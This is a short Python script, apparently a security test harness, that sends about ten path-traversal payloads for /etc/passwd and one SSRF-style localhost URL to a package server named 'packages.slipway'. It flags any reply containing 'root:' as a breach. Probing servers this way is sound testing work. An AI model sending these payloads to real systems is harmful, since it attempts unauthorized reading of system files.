import socket

PATHS = ["/../etc/passwd", "/..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/simple/../../etc/passwd", "/simple..%2f..%2f..%2fetc%2fpasswd"]
PATHS += ["//etc/passwd", "/.%00/etc/passwd", "/\\..\\..\\etc\\passwd", "/simple/%252e%252e/%252e%252e/etc/passwd", "http://127.0.0.1:@CANARY_PORT@/x"]
for path in PATHS:
    with socket.create_connection(("packages.slipway", 80), 3) as client:
        client.sendall(f"GET {path} HTTP/1.0\r\nHost: packages.slipway\r\n\r\n".encode())
        answer = b""
        while piece := client.recv(65536):
            answer += piece
    print("BREACH-" + "GOT-THROUGH " + path if b"root:" in answer else "no file", path, answer[:15])
